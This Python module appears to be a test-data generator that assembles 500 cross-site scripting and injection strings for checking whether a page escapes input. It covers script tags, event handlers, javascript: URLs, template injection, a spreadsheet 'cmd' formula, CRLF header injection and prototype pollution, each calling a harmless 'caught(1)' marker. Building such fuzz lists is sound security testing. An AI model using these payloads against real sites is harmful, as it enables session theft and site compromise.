"""Five hundred texts that run a script where a page forgets to escape them."""

from itertools import product

CALL = "caught(1)"
SIZE = 500
_BREAKS = ("", '"', "'", '">', "'>", "</td>", "</title>", "</textarea>", "</select>", "</script>",
           "--><!-- ", "]]>", "\\\"", "`", "</style>")  # fmt: skip
_TAGS = (
    "<script>CALL</script>", "<img src=x onerror=CALL>", "<svg onload=CALL>", "<body onload=CALL>",
    "<iframe srcdoc='<script>parent.CALL</script>'>", "<details open ontoggle=CALL>x",
    "<video><source onerror=CALL></video>", "<audio src=x onerror=CALL>",
    "<input autofocus onfocus=CALL>", "<select autofocus onfocus=CALL>",
    "<marquee onstart=CALL>x</marquee>", "<object data='javascript:CALL'></object>",
    "<embed src='javascript:CALL'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=CALL>",
    "<svg><animate onbegin=CALL attributeName=x dur=1s>", "<svg><script>CALL</script></svg>",
    "<svg><a xlink:href='javascript:CALL'><text>x</text></a></svg>",
    "<template><img src=x onerror=CALL></template>", "<base href='javascript:CALL//'>",
    "<meta http-equiv=refresh content='0;url=javascript:CALL'>",
    "<link rel=stylesheet href=x onerror=CALL>",
    "<form action='javascript:CALL'><button autofocus onfocus=CALL>x</button></form>",
)  # fmt: skip
_ATTRIBUTES = (
    " onmouseover=CALL x=", " autofocus onfocus=CALL x=",
    " style=animation-name:x onanimationstart=CALL x=",
    " onclick=CALL//", " hx-on:load=CALL x=", " hx-get=/app/ hx-trigger=load x=", " x-data=CALL x=",
    " srcdoc=<script>CALL</script> x=", " formaction=javascript:CALL x=",
    " href=javascript:CALL x=",
)  # fmt: skip
_ADDRESSES = (
    "javascript:CALL", "JaVaScRiPt:CALL", " javascript:CALL", "java\tscript:CALL",
    "java\nscript:CALL",
    "javascript://%0aCALL", "data:text/html,<script>CALL</script>", "vbscript:CALL",
    "//evil.example/CALL", "\\\\evil.example\\CALL", "javascript&colon;CALL",
    "&#106;avascript:CALL",
)  # fmt: skip
_TEMPLATES = (
    "{{CALL}}", "{% raw %}CALL", "${CALL}", "#{CALL}", "<%= CALL %>", "{{7*7}}CALL",
    "{{constructor.constructor('CALL')()}}", "{{ ''.__class__.__mro__ }}CALL", "%(CALL)s",
    "{0.CALL}",
    "[[CALL]]", "{{= CALL }}",
)  # fmt: skip
_OTHERS = (
    "\u202e<script>CALL</script>", "\ufeff<script>CALL</script>", "\u2028<script>CALL</script>",
    "\uff1cscript\uff1eCALL\uff1c/script\uff1e", "<scr\u200bipt>CALL</scr\u200bipt>",
    "<\u017fcript>CALL</\u017fcript>",
    "<IMG SRC=X ONERROR=CALL>", "<<script>CALL//<</script>", "<img/src=x/onerror=CALL>",
    "<img src=x onerror\x0c=CALL>", "&lt;script&gt;CALL&lt;/script&gt;",
    "&#60;script&#62;CALL&#60;/script&#62;",
    "%3Cscript%3ECALL%3C/script%3E", "\\u003cscript\\u003eCALL\\u003c/script\\u003e",
    "+ADw-script+AD4-CALL",
    "</style><style>@import 'javascript:CALL';</style>", "x:expression(CALL)", "};CALL;//",
    "');CALL;//",
    '");CALL;//', "';CALL;'", '\\";CALL;//', "1;CALL", "*/CALL/*", "=cmd|'/c CALL'!A1",
    "@SUM(CALL)",
    '{"a":"</script><script>CALL</script>"}', '{"__proto__":{"x":"CALL"}}', "x\r\nSet-Cookie: CALL",
)  # fmt: skip


def payloads() -> list[str]:
    """Return exactly ``SIZE`` different texts; none holds a NUL, which no text can."""
    found = [b + t for b, t in product(_BREAKS, _TAGS)]
    found += [b + t for b, t in product(("", '"', "'", "`", "x"), _ATTRIBUTES)]
    found += [*_OTHERS, *_ADDRESSES, *_TEMPLATES]
    found += [
        f"{b}{a}" for b, a in product(("url(", "<a href=", "<img src=", "<use href='"), _ADDRESSES)
    ]
    found += [f"{t}{o}" for t, o in product(("<b>", "<!--"), _TEMPLATES)]
    texts = list(dict.fromkeys(one.replace("CALL", CALL) for one in reversed(found)))
    assert len(texts) >= SIZE, len(texts)
    return texts[:SIZE]
